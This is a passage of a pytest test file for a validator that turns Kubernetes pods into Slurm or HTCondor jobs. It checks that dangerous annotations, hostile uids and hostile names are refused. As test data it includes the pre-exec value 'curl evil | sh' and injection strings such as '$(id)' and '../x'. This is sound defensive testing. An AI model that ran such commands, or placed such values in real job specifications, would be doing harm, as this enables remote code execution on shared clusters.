        ("slurm-job.vk.io/anything", "x"),
        ("slurm-job.vk.io/singularity-commands", "x"),
        ("slurm-job.vk.io/", "x"),
        ("slurm-job.knoc.io/flags", "--array=1-3"),
        ("slurm-job.knoc.io/anything", "x"),
        ("job.vk.io/pre-exec", "curl evil | sh"),
        ("job.vk.io/singularity-commands", "x"),
        ("htcondor-job.vk.io/requirements", "x"),
        ("htcondor-job.vk.io/flags", "-n 2"),
        ("htcondor-job.knoc.io/pre-exec", "x"),
        ("htcondor-job.knoc.io/sitename", "x"),
        ("htcondor.interlink.io/classads", "x"),
        ("htcondor-job.vk.io/singularity-options", "--security=no"),
        ("interlink.eu/wstunnel-client-commands", "wstunnel client ws://x"),
        ("interlink.eu/wireguard-client-snippet", "[Interface]"),
        ("interlink.io/remote-pvc", "data"),
        ("interlink.io/pvc-retention-policy", "retain"),
        ("interlink.io/anything", "x"),
    ],
)
def test_annotations_that_are_refused_by_name(key: str, text: str) -> None:
    assert f"metadata.annotations[{key}]" in refusal(pod(container(), annotations={key: text}))


def test_annotations_that_are_for_others_pass() -> None:
    spec_of(pod(container(), annotations={
        "interlink.eu/pod-ip": "10.0.0.1", "interlink.eu/mesh-network": "disabled", "kubectl.kubernetes.io/x": "{}",
        "slurm-job.vk.io/pre-exec": "", "interlink.eu/pod-subnet": "10.0.0.0/8", "interlink.io/source.uid": "u",
        "interlink.io/remote-pvc": "", "interlink.virtual-kubelet.io/wstunnel-timeout": "30s",
    }))  # fmt: skip


@pytest.mark.parametrize(
    "body", [None, [], {}, 3, {"pod": []}, {"pod": {}}, {"pod": {"metadata": {}, "spec": {}}}, {"pod": {"spec": 1}}]
)
def test_what_is_no_pod_is_refused(body: Any) -> None:
    with pytest.raises(Unsupported):
        translate(body, Policy())


@pytest.mark.parametrize("uid", ["", "../x", "a/b", "a b", "$(id)", "a\n", "-a", "x" * 200])
def test_hostile_uids_are_refused(uid: str) -> None:
    assert "metadata.uid" in refusal(pod(uid=uid))


@pytest.mark.parametrize("name", ["", "../x", "$(id)", "a'b", "A", "a\nb"])
def test_hostile_names_are_refused(name: str) -> None:
    assert "metadata.name" in refusal(pod(name=name))


@pytest.mark.parametrize(
    ("pod_name", "name"),
    [
        ("t/p1", "t.p1"),
        ("t/a.b-c", "t.a.b-c"),
        ("t/" + "x" * 62 + ".y", "t." + "x" * 61),
        ("t/" + "a" * 60 + "-b", "t." + "a" * 60),
    ],
)
def test_a_pods_name_becomes_one_that_a_job_can_have(pod_name: str, name: str) -> None:
    assert job_name(pod_name) == name
    assert NAME.fullmatch(name)
